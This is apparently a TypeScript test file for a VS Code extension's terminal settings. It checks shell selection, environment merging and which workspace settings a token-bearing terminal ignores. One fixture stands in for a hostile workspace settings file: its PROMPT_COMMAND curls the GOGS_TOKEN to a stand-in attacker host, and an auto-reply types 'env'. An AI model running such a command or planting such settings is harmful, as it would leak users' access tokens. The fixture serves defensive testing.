import * as assert from 'node:assert/strict';
import { terminalEnvironment, userShell, UserShellInput, workspaceTerminalSettings } from '../../../src/inject/terminalSettings';

describe('inject/terminalSettings', () => {
  it('lists the workspace terminal settings by the ids a user searches for, and says which the token terminal ignores', () => {
    const found = workspaceTerminalSettings([
      {
        where: '.vscode/settings.json',
        value: {
          env: { linux: { PROMPT_COMMAND: 'curl -d "$GOGS_TOKEN" https://attacker.invalid' } },
          autoReplies: { '$ ': 'env\r' },
          shellIntegration: { enabled: false },
          defaultProfile: { linux: 'trap' },
          fontSize: 20,
        },
      },
      { where: 'app/.vscode/settings.json', value: undefined },
    ]);
    assert.deepEqual(
      found.map((f) => [f.id, f.ignoredByTokenTerminal]),
      [
        ['terminal.integrated.env.linux', true],
        ['terminal.integrated.autoReplies', false],
        ['terminal.integrated.shellIntegration.enabled', false],
        ['terminal.integrated.defaultProfile.linux', true],
        ['terminal.integrated.fontSize', false],
      ],
    );
    assert.ok(found.every((f) => f.where === '.vscode/settings.json'));
    assert.deepEqual(workspaceTerminalSettings([{ where: 'x', value: {} }]), []);
  });

  describe('userShell (user-level settings only)', () => {
    const exe = new Set(['/bin/bash', '/usr/bin/zsh', '/bin/sh', '/usr/local/bin/fish']);
    const input = (over: Partial<UserShellInput>): UserShellInput => ({
      platform: 'linux',
      defaultProfile: undefined,
      profiles: { bash: { path: 'bash' }, zsh: { path: 'zsh', args: ['-l'] } },
      env: { PATH: '/usr/local/bin:/usr/bin:/bin', SHELL: '/bin/bash' },
      loginShell: '/bin/sh',
      isExecutable: (f) => exe.has(f),
      ...over,
    });

    it('uses the user default profile (path found on PATH, its args and env)', () => {
      const s = userShell(input({ defaultProfile: 'zsh', profiles: { zsh: { path: 'zsh', args: ['-l'], env: { ZDOTDIR: '/home/u/.z' } } } }));
      assert.deepEqual(s, { shellPath: '/usr/bin/zsh', shellArgs: ['-l'], profileEnv: { ZDOTDIR: '/home/u/.z' }, source: 'user profile "zsh"' });
      // The first path of a list that exists.
      assert.equal(userShell(input({ defaultProfile: 'f', profiles: { f: { path: ['/opt/none/fish', 'fish'] } } })).shellPath, '/usr/local/bin/fish');
    });

    it('falls back to $SHELL, then the login shell, then /bin/sh', () => {
      assert.equal(userShell(input({})).shellPath, '/bin/bash');
      assert.equal(userShell(input({ defaultProfile: 'missing' })).source, '$SHELL');
      assert.equal(userShell(input({ env: { PATH: '/bin' }, loginShell: '/usr/bin/zsh' })).shellPath, '/usr/bin/zsh');
      assert.equal(userShell(input({ env: { SHELL: 'relative-sh' }, loginShell: null })).shellPath, '/bin/sh');
      assert.deepEqual(userShell(input({ platform: 'darwin', env: { SHELL: '/usr/bin/zsh' } })).shellArgs, ['-l']);
    });
  });

  it("terminalEnvironment: the extension host's environment without VS Code's own, user env, then the token", () => {
    const env = terminalEnvironment(
      { PATH: '/usr/bin', HOME: '/home/u', VSCODE_IPC_HOOK_CLI: '/run/x.sock', VSCODE_NLS_CONFIG: '{}', ELECTRON_RUN_AS_NODE: '1', VSCODE_ENV_REPLACE: 'A=b', GOGS_TOKEN: 'old' },
      [{ EXTRA: '${env:HOME}/bin', HOME: null }, undefined, { PROFILE: 'p' }],
      { GOGS_TOKEN: 'secret' },
    );
    assert.deepEqual(env, {
      PATH: '/usr/bin',
      VSCODE_IPC_HOOK_CLI: '/run/x.sock',
      GOGS_TOKEN: 'secret',
      EXTRA: '/home/u/bin',
      PROFILE: 'p',
      TERM_PROGRAM: 'vscode',
      COLORTERM: 'truecolor',
    });
    // What a workspace terminal.integrated.env.* would add is removed (null); what the user has is kept.
    const cleaned = terminalEnvironment({ PATH: '/usr/bin' }, [], { T: 's' }, ['PROMPT_COMMAND', 'PATH', 'T']);
    assert.deepEqual(cleaned, { PATH: '/usr/bin', TERM_PROGRAM: 'vscode', COLORTERM: 'truecolor', T: 's', PROMPT_COMMAND: null });
  });
});
